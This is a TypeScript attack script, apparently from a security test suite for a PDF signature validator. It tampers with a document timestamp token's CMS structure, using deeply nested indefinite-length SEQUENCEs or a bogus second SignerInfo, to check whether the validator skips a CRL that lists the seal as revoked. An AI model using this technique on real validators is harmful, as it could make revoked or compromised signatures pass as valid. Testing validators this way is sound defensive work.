// T1's scenario (scripts/attack-s8/ts-revocation-forms.ts `crls`): seal revoked 08:06 (keyCompromise), sealed 08:36
// with a "good" of 07:36; the archivist's document timestamp of 2025-12-10T09:36:38Z carries the CA's CRL listing the
// seal in its token's `crls`. Then anyone adds, to that token's unsigned sets, what makes sealcheck's whole-token
// decode stop (S3e: a deep element; S3d: a second SignerInfo): is the CRL still read?
//   npx tsx scripts/attack-s9/ts-unread-token.ts [deep|signer|crls]
// deep: 70 nested indefinite SEQUENCEs added to the token's crls; signer: a second SignerInfo (the first's version, sid
// and algorithms, an empty signature); crls: nothing added (control). DSS=1 adds EU DSS.
import { dss, pki, save, show, tool, verify, work } from "../attack36/lib.js";
import { revokedSealed } from "../attack-s6/lib.js";
import { addDocumentTimestamp } from "../generator/attacks.js";
import { encode, raw, seq } from "../generator/der.js";
import { derChildren, readTlv } from "../../src/pki/der.js";
import { lastGap, withCmsField, withLastContents } from "../attack-s8/lib.js";
import { setElements, signedDataFields, withSetElement } from "./lib.js";

const mode = process.argv[2] ?? "deep";
if (!["deep", "signer", "crls"].includes(mode)) throw new Error(`mode: deep|signer|crls, not ${mode}`);
const P = pki();
const { sealed, crl, compromise } = await revokedSealed();
const stamped = await addDocumentTimestamp(sealed, P, new Date("2025-12-10T09:36:38Z"));
let token = withCmsField(lastGap(stamped).der, 0xa1, [crl]);
if (mode === "deep") {
  const d = 70;
  const deep = new Uint8Array([...Array.from({ length: d }, () => [0x30, 0x80]).flat(), ...Array.from({ length: d }, () => [0, 0]).flat()]);
  token = withCmsField(token, 0xa1, [deep]);
} else if (mode === "signer") {
  const si = setElements(signedDataFields(token).fields.at(-1)!)[0]!;
  const t = readTlv(si, 0, si.length)!;
  const kept = derChildren(si, t.body, t.end)!
    .map((x) => si.subarray(x.start, x.end))
    .filter((p) => p[0] !== 0xa0 && p[0] !== 0xa1);
  kept[kept.length - 1] = new Uint8Array([0x04, 0x00]);
  token = withSetElement(token, "signerInfos", [encode(seq(...kept.map(raw)))]);
}
const file = save(work(`s9-ts-unread-${mode}`), "archive.pdf", withLastContents(stamped, token));
console.log(`wrote ${file}: seal revoked ${compromise.toISOString()}; the document timestamp's token carries the CA's CRL, plus ${mode}`);
show(mode, verify(file));
console.log(
  "== pdfsig:",
  tool("pdfsig", [file])
    .split("\n")
    .filter((l) => /Signature Validation/.test(l))
    .map((l) => l.trim())
    .join(" | "),
);
dss(file);
